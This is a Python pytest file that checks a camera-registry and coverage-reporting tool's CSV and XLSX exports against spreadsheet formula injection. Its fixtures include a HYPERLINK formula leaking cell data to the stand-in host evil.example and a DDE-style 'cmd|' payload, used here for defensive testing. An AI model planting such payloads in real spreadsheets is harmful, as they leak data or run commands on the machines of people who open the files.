"""Formula injection: every CSV and XLSX writer hands text back as text.

Each writer is given a text that a spreadsheet would run (``=HYPERLINK(…)``, ``+``, ``-``, ``@``,
tab, CR) beside real numbers (negative ones too); the file is read back: CSV values are prefixed
with ``'``, XLSX cells are strings (never formulas), numbers stay numbers.
"""

from __future__ import annotations

import csv
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from openpyxl import load_workbook

from sharpeyes.model.sheets import csv_cell, csv_safe, frames_to_xlsx

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
TEXTS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _csv_values(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _xlsx_cells(path: Path) -> list[tuple[object, str]]:
    book = load_workbook(path)
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows() for c in row]


def _assert_csv_safe(path: Path, texts: list[str]) -> None:
    values = _csv_values(path)
    for text in texts:
        assert "'" + text in values, (text, path)
        assert text not in values


def _assert_xlsx_safe(path: Path, texts: list[str]) -> None:
    cells = _xlsx_cells(path)
    assert all(kind != "f" for _, kind in cells), path
    for text in texts:
        # XML reads a carriage return back as a line feed
        assert (text, "s") in cells or (text.replace("\r", "\n"), "s") in cells, (text, path)


def test_csv_cell_rule() -> None:
    for text in TEXTS:
        assert csv_cell(text) == "'" + text
    for value in ("-12.5", "+3", "-1e5", "abc", "中文", "", -3, 2.5, None):
        assert csv_cell(value) == value


def test_csv_safe_leaves_numbers_and_prefixes_text() -> None:
    frame = pd.DataFrame(
        {
            "name": pd.Series([EVIL, "ok", None], dtype="string"),
            "mixed": pd.Series(["-5", -5, "@x"], dtype=object),
            "n": [-1.5, 2.0, np.nan],
            "i": pd.Series([-3, 4, None], dtype="Int64"),
        }
    )
    out = csv_safe(frame)
    assert out["name"].tolist()[:2] == ["'" + EVIL, "ok"] and pd.isna(out["name"].iloc[2])
    assert out["mixed"].tolist() == ["-5", -5, "'@x"]
    assert out["n"].dtype == frame["n"].dtype and out["i"].dtype == frame["i"].dtype
    assert frame["name"].iloc[0] == EVIL  # the input is not changed


def test_frames_to_xlsx_writes_strings_and_numbers(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    frames_to_xlsx({"s": pd.DataFrame({"name": TEXTS, "n": [-1.5] * len(TEXTS)})}, path)
    _assert_xlsx_safe(path, TEXTS)
    assert (-1.5, "n") in _xlsx_cells(path)


def test_cameras_export_and_rejects(tmp_path: Path) -> None:
    from sharpeyes.jobs.ingest import export_cameras, import_files
    from sharpeyes.store import Store

    lines = ["设备编码,设备名称,经度,纬度,安装地址"]
    for i, text in enumerate(TEXTS):
        cell = '"' + text.replace('"', '""') + '"'
        lines.append(f"3402000000132000000{i},{cell},-123.8,-42.3,{cell}")
    lines.append(f"{'=' + 'cmd|x'},a,1,2,b,extra")  # a malformed row: its raw text is rejected
    registry = tmp_path / "r.csv"
    registry.write_text("\n".join(lines) + "\n", encoding="utf-8")
    store = Store.open(f"sqlite:///{tmp_path / 's.db'}")
    result = import_files(store, [registry], progress=False)
    _assert_csv_safe(Path(result["rejects"]), ["=cmd|x,a,1,2,b,extra"])
    export_cameras(store, tmp_path / "c.csv", fmt="csv")
    texts = TEXTS[:4]  # the readers trim leading white space from names and addresses
    _assert_csv_safe(tmp_path / "c.csv", texts)
    assert "-123.8" in _csv_values(tmp_path / "c.csv")
    export_cameras(store, tmp_path / "c.xlsx", fmt="xlsx")
    _assert_xlsx_safe(tmp_path / "c.xlsx", texts)
    assert (-123.8, "n") in _xlsx_cells(tmp_path / "c.xlsx")
    store.close()


def test_coverage_report_csv_and_xlsx(tmp_path: Path) -> None:
    from sharpeyes.coverage.report import write_report_csv, write_report_xlsx

    rows = [
        {"level": "village", "unit_code": "219901001201", "unit_name": t, "cameras": -1}
        for t in TEXTS
    ]
    write_report_csv(rows, tmp_path / "r.csv")
    _assert_csv_safe(tmp_path / "r.csv", TEXTS)
    gaps = {"未覆盖重点场所": pd.DataFrame({"name": TEXTS, "n": [-2] * len(TEXTS)})}
    write_report_xlsx(rows, tmp_path / "r.xlsx", meta={"metric_crs": EVIL}, gap_sheets=gaps)
    _assert_xlsx_safe(tmp_path / "r.xlsx", TEXTS)
    assert (-1, "n") in _xlsx_cells(tmp_path / "r.xlsx")


@pytest.mark.parametrize("fmt", ["csv"])
def test_gaps_csv(tmp_path: Path, fmt: str) -> None:
    from sharpeyes.coverage.gaps import Gaps, write_gaps

    layer = gpd.GeoDataFrame(
        {"name": TEXTS, "length_m": [-1.0] * len(TEXTS)},
        geometry=[shapely.Point(123.8, 42.3)] * len(TEXTS),
        crs=4326,
    )
    gaps = Gaps(layer, layer, layer, layer, metric_crs="EPSG:32651", h3_resolution=8)
    written = write_gaps(gaps, tmp_path / "gaps.csv", fmt=fmt)
    assert len(written) == 5
    for path in written:
        _assert_csv_safe(path, TEXTS)
        assert "-1.0" in _csv_values(path)


def test_network_report_xlsx(tmp_path: Path) -> None:
    from sharpeyes.network import check_network
    from sharpeyes.network.report import write_xlsx

    nodes = pd.DataFrame(
        {
            "node_id": ["P", "=A1"],
            "kind": ["platform", "access"],
            "name": [EVIL, "@SUM(A1:A2)"],
            "lon": [123.8, 123.81],
            "lat": [42.3, 42.3],
        }
    )
    links = pd.DataFrame(
        {
            "a": ["P"],
            "b": ["A1"],
            "capacity_mbps": [1000.0],
            "medium": ["fibre"],
            "length_m": [-1.0],
        }
    )
    cameras = pd.DataFrame(
        {
            "device_id": ["=1+1"],
            "point_class": [1],
            "networked": [True],
            "admin_code": ["211202"],
            "resolution": [1080],
            "uplink": ["=A1"],
        }
    )
    write_xlsx(check_network(nodes, links, cameras), tmp_path / "n.xlsx")
    _assert_xlsx_safe(tmp_path / "n.xlsx", ["=A1"])
